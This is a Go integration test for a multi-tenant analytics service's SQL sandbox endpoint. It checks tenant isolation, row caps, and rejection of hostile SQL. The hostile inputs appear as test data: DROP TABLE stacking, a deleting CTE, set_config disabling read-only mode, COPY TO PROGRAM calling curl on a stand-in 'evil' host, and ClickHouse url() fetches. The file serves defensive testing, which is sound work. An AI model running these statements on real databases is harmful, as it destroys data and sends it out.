//go:build platform

package analysis

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/shopmind/shopmind/internal/testutil/stack"
)

// sqlResult is the data of POST /api/v1/anls/query/execute.
type sqlResult struct {
	Columns   []struct{ Name, Type string } `json:"columns"`
	Rows      [][]any                       `json:"rows"`
	Truncated bool                          `json:"truncated"`
	SQL       string                        `json:"sql"`
	Dialect   string                        `json:"dialect"`
}

func executeSQL(t *testing.T, s *stack.Stack, tok, sql string, maxRows int) (sqlResult, envelope) {
	t.Helper()
	body, _ := json.Marshal(map[string]any{"sql": sql, "max_rows": maxRows})
	env := call(t, s, tok, "POST", "/api/v1/anls/query/execute", string(body))
	var r sqlResult
	if env.Code == 0 {
		if err := json.Unmarshal(env.Data, &r); err != nil {
			t.Fatalf("%s: %v", env.Data, err)
		}
	}
	return r, env
}

// TestSQLLabThroughTheGateway: the SQL lab on both stores, as two tenants: each sees only its
// own rows whatever the statement says, hostile statements get a 400 naming the reason, the
// caps and the row limit hold.
func TestSQLLabThroughTheGateway(t *testing.T) {
	for _, store := range []string{"postgres", "clickhouse"} {
		t.Run(store, func(t *testing.T) {
			s, db := stack.StartAnalytics(t, store)
			demo := tenantID(t, s, "demo")
			acme, acmeTok := secondTenant(t, s)
			loadOrders(t, db.Store.Writer(), demo, 300, 1)
			loadOrders(t, db.Store.Writer(), acme, 200, 2)
			demoTok := s.Admin(t).Access

			count := "SELECT count(*) FROM basic_orders"
			if store == "clickhouse" {
				count = "SELECT count() FROM basic_orders"
			}
			for tok, wantCount := range map[string]float64{demoTok: 300, acmeTok: 200} {
				r, env := executeSQL(t, s, tok, count, 0)
				if env.Code != 0 || len(r.Rows) != 1 || fmt.Sprint(r.Rows[0][0]) != fmt.Sprint(wantCount) || r.Dialect != store {
					t.Fatalf("%s: %d %s %+v", count, env.Code, env.Message, r)
				}
			}
			tricks := []string{
				"SELECT i_tenant_id, order_id FROM basic_orders WHERE i_tenant_id = %d OR TRUE",
				"SELECT i_tenant_id FROM (SELECT * FROM basic_orders WHERE i_tenant_id = %d OR 1 = 1) x",
				"SELECT i_tenant_id FROM basic_orders WHERE i_tenant_id = %d UNION ALL SELECT i_tenant_id FROM basic_goods",
			}
			if store == "clickhouse" {
				tricks = []string{
					"SELECT i_tenant_id, order_id FROM basic_orders WHERE i_tenant_id = %d OR 1",
					"SELECT i_tenant_id FROM (SELECT * FROM basic_orders WHERE i_tenant_id = %d OR 1 = 1)",
					"SELECT i_tenant_id FROM basic_orders WHERE i_tenant_id = %d UNION ALL SELECT i_tenant_id FROM basic_goods",
				}
			}
			for _, trick := range tricks {
				for _, c := range []struct {
					tok         string
					self, other int64
				}{{demoTok, demo, acme}, {acmeTok, acme, demo}} {
					r, env := executeSQL(t, s, c.tok, fmt.Sprintf(trick, c.other), 0)
					if env.Code != 0 || len(r.Rows) == 0 {
						t.Fatalf("%s: %d %s", trick, env.Code, env.Message)
					}
					for _, row := range r.Rows {
						if fmt.Sprint(row[0]) != fmt.Sprint(c.self) {
							t.Fatalf("tenant %d saw a row of tenant %v through %q (ran %s)", c.self, row[0], trick, r.SQL)
						}
					}
				}
			}

			r, env := executeSQL(t, s, demoTok, "SELECT order_id FROM basic_orders ORDER BY order_id", 7)
			if env.Code != 0 || len(r.Rows) != 7 || !r.Truncated || !strings.Contains(r.SQL, "LIMIT 8") {
				t.Fatalf("max_rows 7: %d %s %+v", env.Code, env.Message, r)
			}

			hostile := map[string]string{
				"SELECT 1; DROP TABLE basic_orders":                   "exactly one statement",
				"SELECT * FROM system.tables":                         "not allowed",
				"SELECT * FROM url('http://evil/x', CSV, 'a String')": "not allowed",
				"SELECT 1 SETTINGS readonly = 0":                      "SETTINGS",
			}
			if store == "postgres" {
				hostile = map[string]string{
					"SELECT 1; DROP TABLE basic_orders":                                "exactly one statement",
					"WITH d AS (DELETE FROM basic_orders RETURNING *) SELECT * FROM d": "writing CTE",
					"SELECT set_config('default_transaction_read_only', 'off', false)": "set_config",
					"COPY basic_orders TO PROGRAM 'curl http://evil'":                  "COPY",
					"SELECT * FROM information_schema.tables":                          "information_schema",
				}
			}
			for sql, reason := range hostile {
				body, _ := json.Marshal(map[string]any{"sql": sql})
				want(t, s, demoTok, "POST", "/api/v1/anls/query/execute", string(body), 400, reason)
			}
			want(t, s, demoTok, "POST", "/api/v1/anls/query/execute", `{"max_rows": 5}`, 400, "sql")
			want(t, s, demoTok, "POST", "/api/v1/anls/query/execute", `{"sql": "SELECT 1", "max_rows": -1}`, 400, "max_rows")
			want(t, s, "", "POST", "/api/v1/anls/query/execute", `{"sql": "SELECT 1"}`, 401, "")
			want(t, s, demoTok, "GET", "/api/v1/anls/query/sandbox", "", 0, `"rules"`)

			// The analysts' corpus passes the edge (the WAF leaves SQL in json.sql to the
			// sandbox) and runs.
			corpus, err := os.ReadFile("../../../internal/sqlsandbox/testdata/legit_" + store + ".sql")
			if err != nil {
				t.Fatal(err)
			}
			for _, line := range strings.Split(string(corpus), "\n") {
				if line = strings.TrimSpace(line); line == "" || strings.HasPrefix(line, "--") {
					continue
				}
				if _, env := executeSQL(t, s, demoTok, line, 0); env.Code != 0 {
					t.Errorf("%q: %d %s", line, env.Code, env.Message)
				}
			}

			// The orders are still all there.
			r, _ = executeSQL(t, s, demoTok, count, 0)
			if fmt.Sprint(r.Rows[0][0]) != "300" {
				t.Fatalf("after the hostile statements: %v", r.Rows)
			}
		})
	}
}
